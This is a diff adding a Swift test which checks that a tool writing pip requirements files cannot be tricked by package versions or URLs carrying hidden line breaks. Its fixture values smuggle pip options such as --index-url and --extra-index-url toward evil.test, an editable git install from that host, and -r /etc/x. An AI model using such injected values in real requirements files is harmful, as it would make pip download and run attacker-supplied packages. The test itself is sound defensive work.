@@ -152,4 +152,31 @@ struct AttackReviewTests {
         #expect(!text.out.contains(hash))
         #expect(text.out.contains("packages/models/env.bin"))
     }
+
+    @Test("requirements edit: a METADATA version or direct_url with line breaks or options adds no line pip reads")
+    func requirementsInjection() throws {
+        let sp = "/venv/lib/python3.11/site-packages"
+        func change(_ name: String, _ kind: String, _ to: String, url: String? = nil) -> PipChange {
+            PipChange(name: name, change: kind, from: nil, to: to, sitePackages: sp, files: [], allowed: false, url: url)
+        }
+        let hostile = [
+            change("six", "upgraded", "1.17.0\r--index-url http://evil.test/simple"),
+            change("toml", "added", "0.10.2\u{2028}--extra-index-url http://evil.test/"),
+            change("tomli", "added", "-e git+http://evil.test/x"),
+            change("hotpatch", "editable", "0.1", url: "file:///src\n--trusted-host evil.test\u{85}-r /etc/x"),
+            change("wheel", "added", "0.42.0"),
+        ]
+        let text = Requirements.apply(hostile, to: "# pins\nsix==1.16.0  # keep\n")
+        // The oracle is pip's own line splitting (str.splitlines) of what drift writes.
+        let dir = try TempDir()
+        defer { dir.remove() }
+        try Data(text.utf8).write(to: URL(fileURLWithPath: dir.sub("req.txt")))
+        let lines = try sh("python3 -c 'import sys; [print(repr(l)) for l in open(sys.argv[1]).read().splitlines()]' "
+                           + "'\(dir.sub("req.txt"))'").split(separator: "\n")
+        #expect(lines.count == 7, "\(lines)")
+        for l in lines {
+            let body = l.dropFirst().dropLast()
+            #expect(body.hasPrefix("#") || ["six==1.16.0  # keep", "wheel==0.42.0"].contains(String(body)), "\(l)")
+        }
+    }
 }
